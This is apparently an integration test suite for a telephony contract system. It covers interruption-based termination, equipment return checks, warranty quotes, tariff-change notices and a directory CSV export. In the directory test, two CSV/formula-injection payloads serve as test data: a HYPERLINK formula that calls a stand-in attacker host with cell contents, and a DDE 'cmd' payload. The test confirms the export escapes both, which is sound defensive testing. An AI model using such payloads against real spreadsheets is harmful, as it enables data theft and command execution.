"""Issue 18, the contract's life on real PostgreSQL (a database of this module's own, its clock
injected): the special termination after 30 days of interruption (art. 10), a returned device's
condition check within 45 days (art. 12), warranty repairs and quotes (art. 12), changes of
conditions and of tariff (art. 21, emails to a real SMTP server), directory preferences and
the directory file (art. 13)."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime, timedelta

import asyncpg
import pytest
import test_contracts as base  # its helper that writes a customer with numbered lines
from sqlalchemy import select

from centrex.billing.models import Subscription
from centrex.config import Settings
from centrex.contracts import (
    changes,
    directory,
    equipment,
    interruptions,
    rules,
    service,
    warranty,
)
from centrex.contracts.models import ContractCharge, ContractEvent, DirectoryListing
from centrex.contracts.scheduler import run_due
from centrex.contracts.schemas import (
    ChangeIn,
    ConditionIn,
    ContractIn,
    DirectoryIn,
    EarlyTerminationIn,
    EquipmentIn,
    InterruptionEndIn,
    InterruptionIn,
    NoticeIn,
    QuoteDecisionIn,
    RepairIn,
    ReturnIn,
)
from centrex.db.models import Line, NumberStatus, PhoneNumber
from centrex.db.session import asyncpg_dsn, make_engine, make_sessionmaker
from centrex.sandbox.postgres import scratch_database
from centrex.services.errors import Conflict, ServiceError

pytestmark = pytest.mark.integration

SETTINGS = Settings(_env_file=None)
ACCEPTED = datetime(2026, 1, 15, 10, 30, tzinfo=rules.PARIS)
midnight = rules.paris_midnight


@pytest.fixture(scope="module")
async def db(tmp_path_factory):
    async with scratch_database(tmp_path_factory.mktemp("life"), prefix="centrex_life") as db:
        engine = make_engine(db.url)
        try:
            yield db, make_sessionmaker(engine)
        finally:
            await engine.dispose()


async def contract_for(sessions, customer: uuid.UUID, fee: int = 5000) -> uuid.UUID:
    async with sessions() as session:
        contract = await service.create(session, ContractIn(
            customer_id=customer, evidence="signed order", accepted_at=ACCEPTED,
            monthly_fee_cents=fee), now=ACCEPTED)  # fmt: skip
        return contract.id


async def sql(db, query: str, *args) -> None:
    conn = await asyncpg.connect(asyncpg_dsn(db.url))
    try:
        await conn.execute(query, *args)
    finally:
        await conn.close()


def device(customer: uuid.UUID, n: int, **fields) -> EquipmentIn:
    tag = customer.hex[:10]
    return EquipmentIn(**{
        "customer_id": customer, "model": "Yealink T54W", "serial": f"SN{tag}{n}",
        "mac": ":".join([tag[i : i + 2] for i in range(0, 10, 2)] + [f"{n:02x}"]),
        "mode": "provided", "value_cents": 15000, "provided_on": date(2026, 1, 15), **fields,
    })  # fmt: skip


# --- art. 10: special termination after 30 consecutive days of interruption -----------------


async def test_special_termination_refused_under_30_days_then_without_fee(db):
    db, sessions = db
    customer, (line_a, line_b), numbers = await base.new_customer(db, lines=2)
    contract_id = await contract_for(sessions, customer)
    start = datetime(2027, 3, 1, 7, 0, tzinfo=UTC)  # real days (DST begins on 28 March)
    async with sessions() as session:
        # 20 days on line a, then line b from the moment a came back, still out: one run.
        first = await interruptions.record(session, InterruptionIn(
            customer_id=customer, line_ids=[line_a], started_at=start,
            ended_at=start + timedelta(days=20), cause="access network fault"),
            now=start + timedelta(days=20))  # fmt: skip
        assert first.line_ids == [line_a]
        await interruptions.record(session, InterruptionIn(
            customer_id=customer, line_ids=[line_b], started_at=start + timedelta(days=20),
            cause="access network fault, continued"), now=start + timedelta(days=20))  # fmt: skip
        # 60 days of a storm the operator is not answerable for: never counted.
        await interruptions.record(session, InterruptionIn(
            customer_id=customer, started_at=start - timedelta(days=90),
            ended_at=start - timedelta(days=30), cause="force majeure: storm",
            attributable_to_operator=False), now=start)  # fmt: skip
        with pytest.raises(ServiceError) as other:  # a line of another customer
            await interruptions.record(session, InterruptionIn(
                customer_id=customer, line_ids=[uuid.uuid4()], started_at=start,
                cause="x"), now=start)  # fmt: skip
        assert other.value.field == "line_ids"

    ask = EarlyTerminationIn(effective_on=date(2027, 4, 15), reason="no service for a month",
                             ground="interruption")  # fmt: skip
    short = start + timedelta(days=30) - timedelta(seconds=1)
    async with sessions() as session:
        with pytest.raises(Conflict) as refused:
            await service.terminate_early(session, contract_id, ask, now=short)
        assert refused.value.field == "ground" and "art. 10" in refused.value.message
        assert "lasted 29 days, 23:59:59" in refused.value.message
        with pytest.raises(ServiceError) as by_operator:
            await service.terminate_early(session, contract_id, ask.model_copy(
                update={"by": "operator"}), now=start + timedelta(days=31))  # fmt: skip
        assert by_operator.value.field == "by"
        assert (await service.get(session, contract_id)).status == "active"

    async with sessions() as session:  # 30 days: the customer may leave, no fee
        contract = await service.terminate_early(session, contract_id, ask,
                                                 now=start + timedelta(days=30))  # fmt: skip
        assert (contract.status, contract.termination_kind) == ("ending", "interruption")
    await run_due(sessions, SETTINGS, midnight(date(2027, 4, 15)))
    async with sessions() as session:
        assert (await service.get(session, contract_id)).status == "terminated"
        fees = list(await session.scalars(select(ContractCharge).where(
            ContractCharge.contract_id == contract_id)))  # fmt: skip
        assert fees == []  # an early termination at that date would cost 21 monthly fees
        kinds = set(await session.scalars(select(ContractEvent.kind).where(
            ContractEvent.contract_id == contract_id)))  # fmt: skip
        assert {"special_termination", "terminated"} <= kinds
        lines = list(await session.scalars(select(Line).where(Line.customer_id == customer)))
        assert all(line.deleted_at is not None for line in lines)
        for e164 in numbers:
            number = await session.get(PhoneNumber, e164)
            assert (number.status, number.released_at) == (
                NumberStatus.free,
                midnight(date(2027, 4, 15)),
            )


async def test_an_interruption_is_ended_once(db):
    db, sessions = db
    customer, _, _ = await base.new_customer(db)
    start = datetime(2027, 5, 1, 8, 0, tzinfo=rules.PARIS)
    async with sessions() as session:
        found = await interruptions.record(session, InterruptionIn(
            customer_id=customer, started_at=start, cause="core router"), now=start)  # fmt: skip
        with pytest.raises(ServiceError) as before:
            await interruptions.end(session, found.id, InterruptionEndIn(
                ended_at=start - timedelta(hours=1)), now=start)  # fmt: skip
        assert before.value.field == "ended_at"
        ended = await interruptions.end(session, found.id, InterruptionEndIn(
            ended_at=start + timedelta(hours=3)), now=start + timedelta(hours=4))  # fmt: skip
        assert ended.ended_at == start + timedelta(hours=3)
        with pytest.raises(Conflict):
            await interruptions.end(session, found.id, InterruptionEndIn(
                ended_at=start + timedelta(hours=4)), now=start + timedelta(hours=4))  # fmt: skip
        assert await interruptions.longest(session, customer, start + days(1)) == timedelta(hours=3)


def days(n: int) -> timedelta:
    return timedelta(days=n)


# --- art. 12: the condition check within 45 days of the return -------------------------------


async def test_condition_check_within_45_days_else_refunded_as_good(db):
    db, sessions = db
    customer, _, _ = await base.new_customer(db)
    await contract_for(sessions, customer)
    returned = date(2028, 7, 15)  # 30 months of use: 50 % of 150 €
    async with sessions() as session:
        checked, lapsed = [(await equipment.add(session, device(customer, n))).id for n in (1, 2)]
        for device_id in (checked, lapsed):
            back = await equipment.record_return(session, device_id, ReturnIn(
                returned_on=returned), today=returned)  # fmt: skip
            assert (back.status, back.condition) == ("returned", None)
        last = rules.condition_check_deadline(returned)
        assert last == returned + days(45)
        damaged = await equipment.check_condition(session, checked, ConditionIn(
            checked_on=last, condition="damaged"), today=last)  # fmt: skip
        assert (damaged.condition, damaged.checked_on) == ("damaged", last)
        with pytest.raises(Conflict) as late:  # the 46th day: too late to find it damaged
            await equipment.check_condition(session, lapsed, ConditionIn(
                checked_on=last + days(1), condition="damaged"), today=last + days(1))  # fmt: skip
        assert late.value.field == "checked_on" and str(last) in late.value.message

    async def refunds() -> dict:
        async with sessions() as session:
            rows = await session.scalars(select(ContractCharge).where(
                ContractCharge.customer_id == customer,
                ContractCharge.kind == "equipment_refund"))  # fmt: skip
            return {c.equipment_id: c.amount_cents for c in rows}

    await run_due(sessions, SETTINGS, midnight(last + days(1)) - timedelta(seconds=1))
    assert await refunds() == {}  # the 45th day is not over: nothing yet
    await run_due(sessions, SETTINGS, midnight(last + days(1)))
    assert await refunds() == {lapsed: -7500}  # deemed good; the damaged one: nothing
    await run_due(sessions, SETTINGS, midnight(last + days(2)))
    assert await refunds() == {lapsed: -7500}  # once
    async with sessions() as session:
        assert (await equipment.get(session, lapsed)).condition == "good"


# --- art. 12: warranty, exchange, quotes -------------------------------------------------------


async def test_warranty_exchange_free_and_excluded_damage_charged_on_accepted_quote(db):
    db, sessions = db
    customer, (line_id,), _ = await base.new_customer(db, lines=1)
    await contract_for(sessions, customer)
    today = date(2027, 6, 1)  # month 17 of the 36-month initial term
    async with sessions() as session:
        phone = (await equipment.add(session, device(customer, 1, line_id=line_id))).id
        with pytest.raises(ServiceError) as unnamed:
            await warranty.report(session, phone, RepairIn(
                reported_on=today, cause="inherent_defect", action="exchange",
                note="screen dead"), today=today)  # fmt: skip
        assert unnamed.value.field == "replacement_serial"
    async with sessions() as session:
        tag = customer.hex[:10]
        free = await warranty.report(session, phone, RepairIn(
            reported_on=today, cause="inherent_defect", action="exchange", note="screen dead",
            replacement_serial=f"RE{tag}", replacement_mac=f"{tag[:2]}:ee:ee:ee:ee:01"),
            today=today)  # fmt: skip
        assert (free.covered, free.status, free.charge_id) == (True, "done", None)
        new = await equipment.get(session, free.replacement_id)
        old = await equipment.get(session, phone)
        assert (old.status, new.status, new.replaces_id) == ("exchanged", "in_service", phone)
        # The ledger goes on: same line, value, and the customer's original provision day.
        assert (new.line_id, new.value_cents, new.provided_on) == (
            line_id,
            15000,
            date(2026, 1, 15),
        )
        with pytest.raises(Conflict):  # the old one is out of service
            await warranty.report(session, phone, RepairIn(
                reported_on=today, cause="inherent_defect", note="x"), today=today)  # fmt: skip

        # Lightning: not covered, a quote first; no quote, refused naming it.
        with pytest.raises(ServiceError) as no_quote:
            await warranty.report(session, new.id, RepairIn(
                reported_on=today, cause="lightning", note="storm"), today=today)  # fmt: skip
        assert no_quote.value.field == "quote_cents"
    async with sessions() as session:
        quoted = await warranty.report(session, new.id, RepairIn(
            reported_on=today, cause="lightning", note="storm", quote_cents=4500),
            today=today)  # fmt: skip
        declined = await warranty.report(session, new.id, RepairIn(
            reported_on=today, cause="abnormal_use", note="dropped", quote_cents=2000),
            today=today)  # fmt: skip
        assert (quoted.covered, quoted.status) == (False, "quoted")

    async def repair_charges() -> list[int]:
        async with sessions() as session:
            return list(await session.scalars(select(ContractCharge.amount_cents).where(
                ContractCharge.customer_id == customer,
                ContractCharge.kind == "equipment_repair")))  # fmt: skip

    assert await repair_charges() == []  # quoted is not accepted: nothing charged
    async with sessions() as session:
        await warranty.decide(session, new.id, declined.id, QuoteDecisionIn(
            decided_on=today, accepted=False), today=today)  # fmt: skip
        accepted = await warranty.decide(session, new.id, quoted.id, QuoteDecisionIn(
            decided_on=today, accepted=True), today=today)  # fmt: skip
        assert accepted.status == "accepted" and accepted.charge_id is not None
        with pytest.raises(Conflict):
            await warranty.decide(session, new.id, quoted.id, QuoteDecisionIn(
                decided_on=today, accepted=True), today=today)  # fmt: skip
    assert await repair_charges() == [4500]

    # After the initial term, even an inherent defect is repaired on a quote.
    after = date(2029, 2, 1)
    async with sessions() as session:
        with pytest.raises(ServiceError) as out_of_warranty:
            await warranty.report(session, new.id, RepairIn(
                reported_on=after, cause="inherent_defect", note="x"), today=after)  # fmt: skip
        assert out_of_warranty.value.field == "quote_cents"


# --- art. 21: changes of conditions and of tariff ----------------------------------------------


async def test_changes_emailed_conditions_in_a_month_tariff_at_a_renewal_it_can_refuse(
    db, settings, smtp_inbox
):
    db, sessions = db
    customer, _, _ = await base.new_customer(db)
    email = f"{customer.hex[:8]}@changes.example"
    await sql(db, "UPDATE customers SET email = $1 WHERE id = $2", email, customer)
    for code in ("std", "std-2029"):
        await sql(db, "INSERT INTO billing_plans (id, code, version, name, effective_from, "
                  "entered_ttc, line_fee_cents, line_fee_vat, access_fee_cents, access_fee_vat, "
                  "bundle_s, bundle_pooled) VALUES ($1, $2 || $3, 1, 'Std', '2026-01-01', false, "
                  "1000, 20, 0, 20, 0, false) ON CONFLICT DO NOTHING",
                  uuid.uuid4(), code, customer.hex[:6])  # fmt: skip
    old_plan, new_plan = f"std{customer.hex[:6]}", f"std-2029{customer.hex[:6]}"
    await sql(db, "INSERT INTO billing_subscriptions (id, customer_id, plan_code, starts_on, "
              "payment_method) VALUES ($1, $2, $3, '2026-01-15', 'sepa')",
              uuid.uuid4(), customer, old_plan)  # fmt: skip
    contract_id = await contract_for(sessions, customer)
    notified = datetime(2028, 10, 20, 9, 0, tzinfo=rules.PARIS)  # too late for the 2029 term
    async with sessions() as session:
        with pytest.raises(ServiceError) as no_plan:
            await changes.notify(session, contract_id, ChangeIn(kind="tariff", summary="x"),
                                 now=notified)  # fmt: skip
        assert no_plan.value.field == "plan_code"
        conditions = (await changes.notify(session, contract_id, ChangeIn(
            kind="conditions", summary="Art. 7 now says ..."), now=notified)).id  # fmt: skip
        tariff = (await changes.notify(session, contract_id, ChangeIn(
            kind="tariff", summary="New prices", plan_code=new_plan), now=notified)).id  # fmt: skip
    before = len(smtp_inbox)
    await run_due(sessions, settings, notified)
    mails = smtp_inbox[before:]
    assert [m["To"] for m in mails] == [email, email]
    bodies = "\n".join(m.get_payload(decode=True).decode() for m in mails)
    assert "take effect on 2028-11-20" in bodies
    # The 2029-01-15 term could no longer be refused (notice by 2028-10-15): the next one.
    assert "renewal of your contract on 2030-01-15" in bodies
    assert "received by 2029-10-15" in bodies
    await run_due(sessions, settings, notified)  # done once: no second email
    assert len(smtp_inbox) == before + 2

    async def status(change_id) -> str:
        async with sessions() as session:
            return (await session.get(changes.ContractChange, change_id)).status

    await run_due(sessions, settings, midnight(date(2028, 11, 20)) - timedelta(seconds=1))
    assert (await status(conditions), await status(tariff)) == ("notified", "notified")
    await run_due(sessions, settings, midnight(date(2028, 11, 20)))
    assert await status(conditions) == "in_effect"
    await run_due(sessions, settings, midnight(date(2029, 1, 15)))  # renewed, same tariff
    assert await status(tariff) == "notified"
    await run_due(sessions, settings, midnight(date(2030, 1, 15)))
    assert await status(tariff) == "in_effect"
    async with sessions() as session:
        subs = [(s.plan_code, s.starts_on, s.ends_on) for s in await session.scalars(
            select(Subscription).where(Subscription.customer_id == customer)
            .order_by(Subscription.starts_on))]  # fmt: skip
    assert subs == [(old_plan, date(2026, 1, 15), date(2030, 1, 14)),
                    (new_plan, date(2030, 1, 15), None)]  # fmt: skip


async def test_a_tariff_change_lapses_when_the_customer_refuses_the_renewal(db):
    db, sessions = db
    customer, _, _ = await base.new_customer(db)  # no email: the customer area only
    plan = f"lapse{customer.hex[:6]}"
    await sql(db, "INSERT INTO billing_plans (id, code, version, name, effective_from, "
              "entered_ttc, line_fee_cents, line_fee_vat, access_fee_cents, access_fee_vat, "
              "bundle_s, bundle_pooled) VALUES ($1, $2, 1, 'L', '2026-01-01', false, 1000, 20, "
              "0, 20, 0, false)", uuid.uuid4(), plan)  # fmt: skip
    contract_id = await contract_for(sessions, customer)
    notified = datetime(2027, 6, 1, 9, 0, tzinfo=rules.PARIS)
    async with sessions() as session:
        change = (await changes.notify(session, contract_id, ChangeIn(
            kind="tariff", summary="New prices", plan_code=plan), now=notified)).id  # fmt: skip
    await run_due(sessions, SETTINGS, notified)
    async with sessions() as session:  # the customer answers with a notice in time
        await service.give_notice(session, contract_id, NoticeIn(received_on=date(2028, 9, 1)),
                                  now=datetime(2028, 9, 2, tzinfo=rules.PARIS))  # fmt: skip
    await run_due(sessions, SETTINGS, midnight(date(2029, 1, 15)))
    async with sessions() as session:
        found = await session.get(changes.ContractChange, change)
        assert (found.status, found.effective_on) == ("lapsed", date(2029, 1, 15))
        subs = list(await session.scalars(select(Subscription).where(
            Subscription.customer_id == customer)))  # fmt: skip
        assert subs == []  # none started on the new plan
        kinds = list(await session.scalars(select(ContractEvent.kind).where(
            ContractEvent.contract_id == contract_id)))  # fmt: skip
        assert "change_lapsed" in kinds and "change_in_effect" not in kinds


# --- art. 13: directory preferences and the directory file ------------------------------------


async def test_directory_preferences_and_a_file_whose_cells_are_never_formulas(db):
    db, sessions = db
    customer, _, (listed, unlisted) = await base.new_customer(db, lines=2)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await sql(db, "UPDATE customers SET name = $1 WHERE id = $2", hostile, customer)
    contract_id = await contract_for(sessions, customer)
    now = datetime(2026, 6, 1, 12, tzinfo=rules.PARIS)
    async with sessions() as session:
        number = await session.get(PhoneNumber, unlisted)
        default = await directory.get(session, number)
        assert (default.listed, default.opposes_prospection) == (False, False)
        number = await session.get(PhoneNumber, listed)
        await directory.put(session, number, DirectoryIn(
            listed=True, opposes_prospection=True), now=now)  # fmt: skip

    async def rows() -> list[list[str]]:
        async with sessions() as session:
            text = b"".join([chunk async for chunk in directory.export_rows(session)]).decode()
        return list(csv.reader(io.StringIO(text)))

    exported = await rows()
    assert exported[0] == directory.HEADER
    mine = [row for row in exported if row[1] in (listed, unlisted)]
    national = "0" + listed[3:]
    assert mine == [[national, listed, "'" + hostile, "refused", "allowed"]]
    async with sessions() as session:  # a listing name of its own, hostile too
        number = await session.get(PhoneNumber, listed)
        await directory.put(session, number, DirectoryIn(
            listed=True, listing_name="@SUM(1+1)*cmd|' /C calc'!A0",
            opposes_reverse_lookup=True), now=now)  # fmt: skip
    mine = [row for row in await rows() if row[1] == listed]
    assert mine == [[national, listed, "'@SUM(1+1)*cmd|' /C calc'!A0", "allowed", "refused"]]

    # The contract ends: the numbers go to quarantine and leave the directory.
    async with sessions() as session:
        await service.terminate_early(session, contract_id, EarlyTerminationIn(
            effective_on=date(2026, 7, 1), reason="closing"), now=now)  # fmt: skip
    await run_due(sessions, SETTINGS, midnight(date(2026, 7, 1)))
    assert [row for row in await rows() if row[1] == listed] == []
    async with sessions() as session:
        assert await session.get(DirectoryListing, listed) is None
        with pytest.raises(Conflict) as gone:
            await directory.put(session, await session.get(PhoneNumber, listed),
                                DirectoryIn(listed=True), now=now)  # fmt: skip
        assert gone.value.field == "number"
